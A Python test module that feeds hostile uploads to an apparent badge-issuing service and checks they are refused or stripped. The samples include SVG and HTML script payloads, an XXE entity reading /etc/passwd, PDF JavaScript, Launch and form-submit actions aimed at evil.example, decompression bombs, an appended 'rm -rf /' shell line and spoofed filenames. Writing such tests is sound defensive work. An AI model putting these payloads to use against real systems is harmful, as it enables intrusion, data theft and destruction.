"""Evidence that somebody sends in: files that are more than they seem (UPL, SVG-02, IMG).

An input is the upload itself, or JSON with what is said of it. Where a file is taken though there was more
in it than its pixels, the answer is `remade` if all of that is gone, and `carried_over` if any of it is still
there.
"""

from __future__ import annotations

import hashlib
import json
import zlib
from collections.abc import Callable, Iterator

from issuer.errors import IssuerError
from issuer.evidence.files import file_item
from issuer.evidence.item import Attached, Words
from issuer.prepare import PrepareRefused, prepare
from tests import evidence_files as made
from tests.attacks.framework import Case, Recipe
from tests.awards import draft

AREA = "uploads"
ADDRESS = "https://pinon-mesa.example/evidence/0b9d8f6e-5f0e-4c56-8d3e-1a2b3c4d5e6f"
LINK = "https://work.pinon-mesa.example/7.pdf"
DIGEST = hashlib.sha256(b"seven").hexdigest()
MORE = (made.GPS, made.PAGE, b"PK\x03\x04", b"PK\x05\x06", b"%PDF-", b"<svg", b"#!/bin/sh")
"""What should not be in a picture that we made."""

PNG = made.png_of(12, 8)
JPEG = made.photo(12, 8)


def judge(data: bytes, suffix: str) -> str:
    """What came of it: the code of the refusal, or what the badge would carry."""
    try:
        return _named(**json.loads(data)) if suffix == "json" else _uploaded(data)
    except PrepareRefused as refused:
        return f"not_signed_{refused.code}"
    except IssuerError as refused:
        return refused.code


def _uploaded(data: bytes) -> str:
    one = file_item(data, address=ADDRESS)
    signable(one)
    if one.item.media_type.startswith("image/"):
        held = [mark for mark in MORE if mark in data]
        if any(mark in one.body for mark in held):
            return "carried_over"
        return "remade" if held else "ok"
    return "ok"


def signable(*pieces: Attached) -> None:
    """Everything that is taken can be signed."""
    prepare(draft("CO-CNA", evidence=pieces), withheld=("200000001", "2008-02-29"))


def _named(**words: str) -> str:
    signable(file_item(b"A plain text.", Words(**words)))
    return "ok"


def bomb(side: int) -> bytes:
    """A PNG that unpacks to a square of so many pixels."""
    return made.bomb(side)


def text(size: int) -> bytes:
    """A plain text of so many bytes."""
    return b"a" * size


def pdf_bomb(size: int) -> bytes:
    """A PDF whose one stream unpacks to so many bytes."""
    return made.pdf(made.stream(bytes(size)))


def many_streams(count: int) -> bytes:
    """A PDF of so many empty streams."""
    return made.pdf(*[made.stream(b"")] * count)


def many_names(count: int) -> bytes:
    """A PDF of so many names and some more."""
    return made.pdf(b"/A" * count)


RECIPES: dict[str, Callable[..., bytes]] = {
    "bomb": bomb,
    "text": text,
    "pdf_bomb": pdf_bomb,
    "many_streams": many_streams,
    "many_names": many_names,
}


def cases() -> Iterator[Case]:
    yield from _kinds()
    yield from _pictures()
    yield from _drawings()
    yield from _documents()
    yield from _sizes()
    yield from _names_and_texts()


def _kinds() -> Iterator[Case]:
    """UPL-01: what it is, its content says, whatever it is called."""
    for name, data in {
        "page": b"<!doctype html><title>x</title>",
        "page-after-spaces": b"\n\t <html><body onload=alert(1)>",
        "page-within-text": b"Fine words.\n<script>alert(1)</script>",
        "xml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "script-address": b"javascript:alert(1)",
        "gif": b"GIF89a" + bytes(20),
        "gif-archive": b"GIF89a" + bytes(20) + b"PK\x03\x04",
        "zip": b"PK\x03\x04" + bytes(26),
        "program": b"MZ\x90\0" + bytes(60),
        "elf": b"\x7fELF" + bytes(60),
        "tiff": b"II*\0" + bytes(20),
        "webp": b"RIFF\0\0\0\0WEBPVP8 ",
        "heic": b"\0\0\0\x18ftypheic" + bytes(12),
        "bitmap": b"BM" + bytes(50),
        "word": b"\xd0\xcf\x11\xe0" + bytes(60),
        "rtf": b"{\\rtf1 words}",
        "utf-16": "A plain text.".encode("utf-16"),
        "latin-1": "Año".encode("latin-1"),
        "badge-as-text": b'{"@context":["https://www.w3.org/ns/credentials/v2"]}',
        "token-as-text": b"eyJhbGciOiJFZERTQSJ9.eyJ2YyI6e319.c2ln",
    }.items():
        yield Case(f"UPL-01-{name}", data, "bin", "evidence_kind", b"A plain text.")
    yield Case("UPL-01-empty", b"", "bin", "evidence_empty", b"A plain text.")
    yield Case("UPL-01-only-spaces", b" \r\n\t ", "bin", "evidence_empty", b"A plain text.")


def _pictures() -> Iterator[Case]:
    """IMG-05, IMG-06: nothing but pixels goes on, and not too many are looked at."""
    for name, data, twin in (
        ("place-in-photograph", made.photo_with_place(), JPEG),
        ("texts-in-png", made.png_with_texts(), PNG),
        ("page-after-png", PNG + made.PAGE, PNG),
        ("page-after-jpeg", JPEG + made.PAGE, JPEG),
        ("archive-after-jpeg", JPEG + b"PK\x03\x04 PK\x05\x06", JPEG),
        ("pdf-after-png", PNG + made.PLAIN_PDF, PNG),
        ("drawing-in-png", PNG[:33] + made.chunk(b"tEXt", b"a\0<svg onload=alert(1)>") + PNG[33:], PNG),
        ("script-after-jpeg", JPEG + b"\n#!/bin/sh\nrm -rf /", JPEG),
    ):
        yield Case(f"IMG-06-{name}", data, "bin", "remade", twin)
    for name, data, twin in (
        ("png-half", PNG[: len(PNG) // 2], PNG),
        ("png-signature", PNG[:8], PNG),
        ("jpeg-half", JPEG[: len(JPEG) // 2], JPEG),
        ("jpeg-signature", JPEG[:4], JPEG),
        ("png-wrong-checksum", PNG[:30] + bytes([PNG[30] ^ 1]) + PNG[31:], PNG),
        ("png-compressed-text-bomb", PNG[:33] + made.chunk(
            b"zTXt", b"a\0\0" + zlib.compress(bytes(4_000_000))) + PNG[33:], PNG),
        ("png-without-pixels", PNG[:33] + PNG[-12:], PNG),
    ):  # fmt: skip
        yield Case(f"IMG-05-{name}", data, "bin", "picture_broken", twin)
    for side in (7_000, 13_000, 20_000):
        bad, good = Recipe("bomb", {"side": side}), Recipe("bomb", {"side": 1_000})
        yield Case(f"IMG-05-bomb-{side}", bad, "bin", "picture_too_large", good)
    yield Case("IMG-05-jpeg-65000", made.jpeg_of(65_000, 65_000), "bin", "picture_too_large", JPEG)


def _drawings() -> Iterator[Case]:
    """SVG-02: no SVG is kept, whatever is in it; a picture of it is."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    for name, inside in {
        "script": "<script>alert(1)</script>",
        "event": '<circle r="4" onload="alert(1)"/>',
        "foreign-object": "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "use-data": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
        "outside-picture": '<image href="http://evil.example/pixel.png"/>',
        "style-import": "<style>@import url(http://evil.example/x.css)</style>",
        "link": '<a xlink:href="javascript:alert(1)"><circle r="4"/></a>',
        "animated-address": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
        "nothing": '<circle r="4"/>',
    }.items():
        yield Case(f"SVG-02-{name}", f"{head}{inside}</svg>".encode(), "bin", "evidence_kind", PNG)
    yield Case("SVG-02-mark-before", f"\ufeff\n{head}</svg>".encode(), "bin", "evidence_kind", PNG)
    yield Case("SVG-02-declared", f"<?xml version='1.0'?>{head}</svg>".encode(), "bin", "evidence_kind", PNG)


def _documents() -> Iterator[Case]:
    """PDFs that do more than be read."""
    good = made.PLAIN_PDF
    act = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    for name, data in {
        "program": made.pdf(act),
        "program-names": made.pdf(catalog=b"/Names << /JavaScript 4 0 R >>"),
        "program-escaped": made.pdf(act.replace(b"/JavaScript", b"/#4AavaScrip#74")),
        "program-packed": made.pdf(made.packed_objects(act)),
        "program-packed-escaped": made.pdf(
            made.packed_objects(act.replace(b"/JavaScript", b"/Java#53cript"))
        ),
        "launch": made.pdf(b"<< /S /Launch /F (calc.exe) >>"),
        "file-inside": made.pdf(made.stream(b"MZ", b"/Type /EmbeddedFile /Filter /FlateDecode")),
        "files-inside": made.pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"),
        "open-action": made.pdf(catalog=b"/OpenAction << /S /URI /URI (http://evil.example) >>"),
        "sent-form": made.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
        "form-program": made.pdf(catalog=b"/AcroForm << /XFA 4 0 R >>"),
        "film": made.pdf(b"<< /Subtype /RichMedia >>"),
        "other-file": made.pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>"),
        "page-too": good.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<script>alert(1)</script>\n"),
        "archive-too": made.pdf(b"<< /A (PK\x03\x04 PK\x01\x02 PK\x05\x06) >>"),
    }.items():
        yield Case(f"UPL-01-pdf-{name}", data, "bin", "pdf_active", good)
    for name, data in {
        "locked": made.pdf(catalog=b"/Encrypt 4 0 R"),
        "locked-escaped": made.pdf(catalog=b"/#45ncrypt 4 0 R"),
        "packed-twice": made.pdf(made.packed_objects(b"<< >>", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
        "packed-otherwise": made.pdf(
            made.stream(b"80 0B 60", b"/Type /ObjStm /Filter /LZWDecode", packed=False)
        ),
        "packed-predicted": made.pdf(
            made.packed_objects(b"<< >>", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")
        ),
        "header-cut": made.pdf(b"<< /Type /ObjStm /Filter [/AHx /Fl] /X (obj) >>\nstream\n789c\nendstream"),
    }.items():
        yield Case(f"UPL-01-pdf-{name}", data, "bin", "pdf_hidden", good)
    for name, data in {
        "without-head": good[1:],
        "gif-before": b"GIF89a" + good,
        "line-before": b"\n" + good,
        "page-after": good + made.PAGE,
        "without-end": good[:-7],
        "without-table": good.replace(b"startxref", b"startxxxx"),
    }.items():
        expect = "pdf_broken" if data.startswith(b"%PDF-") else "evidence_kind"
        yield Case(f"UPL-01-pdf-{name}", data, "bin", expect, good)
    big, fits = Recipe("pdf_bomb", {"size": 33 * 1024 * 1024}), Recipe("pdf_bomb", {"size": 1_000_000})
    yield Case("UPL-02-pdf-bomb", big, "bin", "pdf_hidden", fits)
    many, few = Recipe("many_streams", {"count": 5_001}), Recipe("many_streams", {"count": 100})
    yield Case("UPL-02-pdf-many-parts", many, "bin", "pdf_hidden", few)


def _sizes() -> Iterator[Case]:
    """UPL-05: the bound of one upload."""
    most = 10 * 1024 * 1024
    for name, size, fits in (
        ("ten-megabytes-and-one", most + 1, 1_048_576),
        ("text-of-a-megabyte-and-one", 1_048_577, 1_048_576),
    ):
        bad, good = Recipe("text", {"size": size}), Recipe("text", {"size": fits})
        yield Case(f"UPL-05-{name}", bad, "bin", "evidence_too_large", good)
    bad, good = Recipe("many_names", {"count": 1_000_000}), Recipe("many_names", {"count": 1_000})
    yield Case("UPL-05-pdf-many-names", bad, "bin", "pdf_hidden", good)


def _names_and_texts() -> Iterator[Case]:
    """UPL-01: names; and what a text tells of a student."""
    good = json.dumps({"name": "At the bench"}).encode()
    for name, words in {
        "turned": {"name": "work\u202efdp.exe"},
        "nul": {"name": "work\0.pdf"},
        "unseen": {"name": "wo\u200brk"},
        "line": {"name": "one\ntwo"},
        "long": {"name": "x" * 301},
        "piled": {"name": "a" + "\u0301" * 40},
        "genre": {"genre": "x" * 201},
        "narrative": {"narrative": "bell \x07"},
    }.items():
        yield Case(f"UPL-01-name-{name}", json.dumps(words).encode(), "json", "evidence_text", good)
    for name, words in {
        "security-number": {"description": "Number 123-45-6789"},
        "labelled": {"narrative": "Date of birth: 2008"},
    }.items():
        yield Case(
            f"UPL-01-said-{name}", json.dumps(words).encode(), "json", "not_signed_forbidden_value", good
        )
    text_twin = b"Built a shelf of 200 000 001 pieces."
    for name, data, expect in (
        ("turned", "turned \u202e around".encode(), "evidence_text"),
        ("bell", b"bell \x07", "evidence_text"),
        ("escape", b"\x1b[2Jgone", "evidence_text"),
        ("security-number", b"His number is 123-45-6789.", "evidence_private"),
        ("race", b"Race: none of your business", "evidence_private"),
        ("student-number", b"Made by 200000001.", "not_signed_withheld_value"),
        ("birth-date", b"Born 2008-02-29.", "not_signed_withheld_value"),
    ):
        yield Case(f"UPL-01-text-{name}", data, "bin", expect, text_twin)
